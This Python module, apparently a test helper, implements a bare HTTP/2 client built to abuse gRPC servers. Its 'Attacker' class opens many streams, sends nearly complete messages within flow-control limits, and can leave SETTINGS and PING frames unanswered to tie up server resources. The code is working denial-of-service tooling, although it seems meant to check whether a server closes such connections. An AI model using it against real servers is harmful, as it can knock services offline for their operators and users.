"""A client that speaks just enough HTTP/2 to abuse it, on a Unix socket or a
TCP port. Standard library only."""

import select
import socket
import struct
import time
from collections.abc import Callable, Iterable, Iterator
from typing import Any

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def message(size: int, sent: int) -> bytes:
    """The first `sent` bytes of a gRPC message of `size` bytes."""
    return prefix(size) + b"x" * sent


def prefix(size: int) -> bytes:
    """What precedes a gRPC message of `size` bytes."""
    return b"\0" + struct.pack(">I", size)


def _parts(frames: bytes | bytearray, most: int = 1 << 14) -> Iterator[bytes]:
    """Pieces of some KiB, each of whole frames."""
    begin = end = 0
    while end < len(frames):
        end += 9 + int.from_bytes(frames[end:end + 3], "big")
        if end - begin >= most or end >= len(frames):
            yield bytes(frames[begin:end])
            begin = end


def _literal(name: Any, value: Any) -> bytes:
    """HPACK: a literal that enters the table; `name`: its index, or a new one."""
    head = b"\x40" + bytes([len(name)]) + name if isinstance(name, bytes) else bytes([0x40 | name])
    return head + bytes([len(value)]) + value


class Attacker:
    """One connection. Sends what it is told to, until the server closes it. `headers`: more
    of its first call. `ended`: the trailers of calls that the server has ended."""

    def __init__(self, address: str, method: str, acknowledges: bool = True,
                 headers: Iterable[tuple[bytes, bytes]] = ()) -> None:
        if address.startswith("unix:"):
            self._socket = socket.socket(socket.AF_UNIX)
            self._socket.connect(address[len("unix:"):])
        else:
            host, port = address.rsplit(":", 1)
            self._socket = socket.create_connection((host, int(port)))
        self._socket.setblocking(False)
        self._acknowledges = acknowledges
        self._received = b""
        self._answers = b""  # frames to send, once the frame that is being sent is complete
        self._next_stream = 1
        self._headers = (b"\x83\x86" + _literal(4, method.encode()) + _literal(1, b"x") +
                         _literal(31, b"application/grpc") + _literal(b"te", b"trailers") +
                         b"".join(_literal(*header) for header in headers))
        self.open = True
        self.ended: dict[int, bytes] = {}
        self._windows = {0: 65535}
        self._initial_window = 65535
        self._write(PREFACE + frame(SETTINGS, 0, 0))

    def close(self) -> None:
        self._socket.close()

    def call(self) -> tuple[int, Any]:
        """The frame that begins a call: from the second one on, 15 bytes."""
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        self._windows[stream] = self._initial_window
        begin = frame(HEADERS, END_HEADERS, stream, self._headers)
        self._headers = b"\x83\x86\xc1\xc0\xbf\xbe"  # all of it from the table
        return stream, begin

    def send(self, frames: bytes | bytearray, until: float = float("inf")) -> bool:
        """Sends whole frames, and reads meanwhile. False: the server has closed the
        connection."""
        for part in _parts(frames):
            if not self.open or time.monotonic() >= until:
                break
            self._write(self._take_answers() + part, until)
        return self.open

    def _take_answers(self) -> bytes:
        answers, self._answers = self._answers, b""
        return answers

    def _write(self, data: bytes, until: float = float("inf")) -> None:
        view = memoryview(data)
        while self.open and view and time.monotonic() < until:
            readable, writable, _ = select.select([self._socket], [self._socket], [], 1)
            try:
                if readable:
                    self._read()
                if writable:
                    view = view[self._socket.send(view):]
            except (ConnectionError, BrokenPipeError):
                self.open = False

    def wait_closed(self, seconds: float) -> bool:
        """Whether the server closes the connection within that time."""
        self.wait_for(lambda: False, seconds)
        return not self.open

    def wait_for(self, condition: Callable[..., bool], seconds: float) -> None:
        """Reads until the condition holds or the connection is closed."""
        end = time.monotonic() + seconds
        while self.open and time.monotonic() < end and not condition():
            if select.select([self._socket], [], [], 0.1)[0]:
                try:
                    self._read()
                except (ConnectionError, BrokenPipeError):
                    self.open = False
            self._write(self._take_answers(), end)

    def send_half_messages(self, size: int, streams: int, until: float) -> None:
        """Begins calls and sends all but the last byte of a message in each, as far as
        the server lets it."""
        left = {}
        for _ in range(streams):
            stream, begin = self.call()
            self.send(begin + frame(DATA, 0, stream, message(size, 0)), until)
            self._windows[stream] -= 5
            self._windows[0] -= 5
            left[stream] = size - 1
        while self.open and any(left.values()) and time.monotonic() < until:
            moved = 0
            for stream in left:
                part = min(16384, left[stream], self._windows[stream], self._windows[0])
                if part > 0:
                    self.send(frame(DATA, 0, stream, b"x" * part), until)
                    for window in (0, stream):
                        self._windows[window] -= part
                    left[stream] -= part
                    moved += part
            if not moved:
                self.wait_closed(0.05)

    def _read(self) -> None:
        data = self._socket.recv(1 << 16)
        self.open = bool(data)
        self._received += data
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3], "big")
            if len(self._received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload, self._received = self._received[9:9 + size], self._received[9 + size:]
            self._take(kind, flags, stream, payload)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            for number, value in struct.iter_unpack(">HI", payload):
                if number == 4:
                    for known in self._windows:
                        self._windows[known] += value - self._initial_window if known else 0
                    self._initial_window = value
            if self._acknowledges:
                self._answers += frame(SETTINGS, ACK, 0)
        elif kind == PING and not flags & ACK and self._acknowledges:
            self._answers += frame(PING, ACK, 0, payload)
        elif kind == HEADERS and flags & END_STREAM:
            self.ended[stream] = payload
        elif kind == WINDOW_UPDATE:
            self._windows[stream] = self._windows.get(stream, 0) + int.from_bytes(payload, "big")
